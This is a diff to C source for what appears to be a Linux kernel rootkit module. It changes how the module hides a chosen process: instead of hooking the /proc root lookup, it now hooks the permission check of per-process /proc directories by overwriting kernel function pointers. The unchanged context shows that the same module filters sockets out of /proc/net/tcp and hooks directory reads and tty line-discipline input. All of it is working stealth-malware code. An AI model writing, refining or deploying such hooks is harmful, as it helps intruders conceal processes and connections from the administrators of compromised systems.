@@ -3,7 +3,6 @@
 #include <linux/atomic.h>
 #include <linux/dcache.h>
 #include <linux/fs.h>
-#include <linux/namei.h>
 #include <linux/objtool.h>
 #include <linux/seq_file.h>
 #include <linux/tty.h>
@@ -15,7 +14,7 @@
 #include <asm/nospec-branch.h>
 #include "tricks.h"
 
-static struct trick *ports, *readdir, *lookups, *line;
+static struct trick *ports, *readdir, *permissions, *line;
 
 /* /proc/net/tcp without the sockets of a port. All that are in that list have the beginning of a sock. */
 static int show_socket(struct seq_file *seq, void *v)
@@ -66,29 +65,27 @@ static int hook_file_operations(struct trick *trick, int number)
 			       filtered_readdir);
 }
 
-/* The folder of a process can't be opened in /proc. */
-static struct dentry *filtered_lookup(struct inode *folder, struct dentry *entry, unsigned int flags)
+/* The folder of a process, which is listed, has nothing in it for anybody. The first parameter's type changed in 6.3. */
+static int denying_permission(void *idmap, struct inode *folder, int mask)
 {
-	atomic_inc(&lookups->hits);
-	if (is_number(entry->d_name.name, entry->d_name.len, lookups->number))
-		return ERR_PTR(-ENOENT);
-	return ((typeof(&filtered_lookup))lookups->original)(folder, entry, flags);
+	struct dentry *entry;
+	bool denied;
+
+	atomic_inc(&permissions->hits);
+	/* A name is looked at where that may take time. */
+	if (mask & MAY_NOT_BLOCK)
+		return -ECHILD;
+	entry = d_find_any_alias(folder);
+	denied = entry && is_number(entry->d_name.name, entry->d_name.len, permissions->number);
+	dput(entry);
+	return denied ? -ENOENT : ((typeof(&denying_permission))permissions->original)(idmap, folder, mask);
 }
 
 static int hook_inode_operations(struct trick *trick, int number)
 {
-	struct path proc;
-	int error = kern_path("/proc", LOOKUP_DIRECTORY, &proc);
-
-	if (error)
-		return error;
-	lookups = trick;
-	error = replace_pointer(trick, "proc_root_inode_operations", offsetof(struct inode_operations, lookup),
-				filtered_lookup);
-	/* What was looked up before is remembered. */
-	shrink_dcache_parent(proc.dentry);
-	path_put(&proc);
-	return error;
+	permissions = trick;
+	return replace_pointer(trick, "proc_tgid_base_inode_operations", offsetof(struct inode_operations, permission),
+			       denying_permission);
 }
 
 typedef typeof_member(struct tty_ldisc_ops, receive_buf2) receive_fn;
